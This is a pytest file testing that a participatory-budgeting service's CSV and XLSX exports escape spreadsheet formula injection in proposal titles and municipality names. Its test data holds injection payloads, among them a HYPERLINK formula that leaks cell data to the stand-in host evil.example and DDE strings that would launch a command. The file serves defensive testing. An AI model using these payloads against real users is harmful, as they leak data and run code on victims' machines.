"""Formula injection (issue 18): text that a spreadsheet would run is written as text in every export."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

from openpyxl import load_workbook

from pb_service.core.permissions import SYSTEM
from pb_service.core.spreadsheets import csv_text, safe_cell, xlsx_bytes
from pb_service.editions.models import Phase
from pb_service.results.services import compute_results, publish_results
from tests.analytics_factories import make_indicators
from tests.factories import login, make_municipality, make_user
from tests.results_factories import cast_random_ballots, voting_edition

#: What an attacker may type as a proposal title or a name, and what the file must then hold.
ATTACKS = {
    '=HYPERLINK("https://evil.example/?"&A1,"Zobacz")': '\'=HYPERLINK("https://evil.example/?"&A1,"Zobacz")',
    "+48 123 456 789": "'+48 123 456 789",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Park = zieleń": "Park = zieleń",
}


def _no_formula(workbook) -> list[str]:
    """Cells a spreadsheet would compute: openpyxl's formula type, or text it would take as one."""
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def test_safe_cell_quotes_only_what_would_run():
    assert {text: safe_cell(text) for text in ATTACKS} == ATTACKS
    assert [safe_cell(value) for value in (-5, 2.5, None, "", "Zieleń")] == [-5, 2.5, None, "", "Zieleń"]


def test_the_writers_quote_headers_and_cells_and_keep_numbers():
    header = ["=title", "votes"]
    rows = [[text, -3] for text in ATTACKS]
    parsed = list(csv.reader(io.StringIO(csv_text(header, rows), newline="")))
    assert parsed == [["'=title", "votes"]] + [[expected, "-3"] for expected in ATTACKS.values()]
    workbook = load_workbook(io.BytesIO(xlsx_bytes(header, rows + [["bell\x07 in a title", 1]], title="=Sheet")))
    assert _no_formula(workbook) == []
    # XML reads a carriage return as a line feed; the apostrophe stays in front.
    assert [list(row) for row in workbook.active.iter_rows(values_only=True)] == (
        [["'=title", "votes"]] + [[expected.replace("\r", "\n"), -3] for expected in ATTACKS.values()] + [["bell in a title", 1]]
    )


def test_public_results_csv_holds_hostile_titles_as_text(session, client):
    town = make_municipality(session)
    edition, city, districts, projects = voting_edition(session, town, phase=Phase.RESULTS, protest_days=7)
    for project, title in zip(projects[city.id], ATTACKS):
        project.title = title
    cast_random_ballots(session, edition, city, districts, projects, 40)
    for column in ("voting_starts_at", "results_starts_at"):
        setattr(edition, column, getattr(edition, column) - timedelta(days=7))
    compute_results(town, edition, actor=SYSTEM)
    publish_results(town, edition, actor=SYSTEM, notify=False)
    session.commit()

    response = client.get(f"/{town.slug}/editions/{edition.id}/results.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    titles = {row["title"] for row in rows if row["pool_id"] == str(city.id)}
    assert titles == {ATTACKS[title] for title in list(ATTACKS)[:len(projects[city.id])]}
    assert not [row for row in rows for value in row.values() if value.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_staff_exports_hold_hostile_names_as_text(session, client):
    hostile = list(ATTACKS)[0]
    municipality = make_municipality(session, name=hostile)
    make_indicators(session, municipality, 2023, voters=1_000, budget_total=1_000_000_00)
    staff = make_user(session, staff=True)
    session.commit()
    login(client, staff)

    exported = client.get("/staff/analytics/?year=2023&format=csv")
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"), newline="")))
    assert [row[0] for row in rows[1:]] == [ATTACKS[hostile]]
    workbook = load_workbook(io.BytesIO(client.get("/staff/analytics/?year=2023&format=xlsx").data))
    assert _no_formula(workbook) == []
    assert [row[0] for row in workbook.active.iter_rows(min_row=2, values_only=True)] == [ATTACKS[hostile]]
    for table in ("turnout-over-years", "budget-and-turnout", "implementation"):
        workbook = load_workbook(io.BytesIO(client.get(f"/staff/analytics/?year=2023&format=xlsx&table={table}").data))
        assert _no_formula(workbook) == [], table
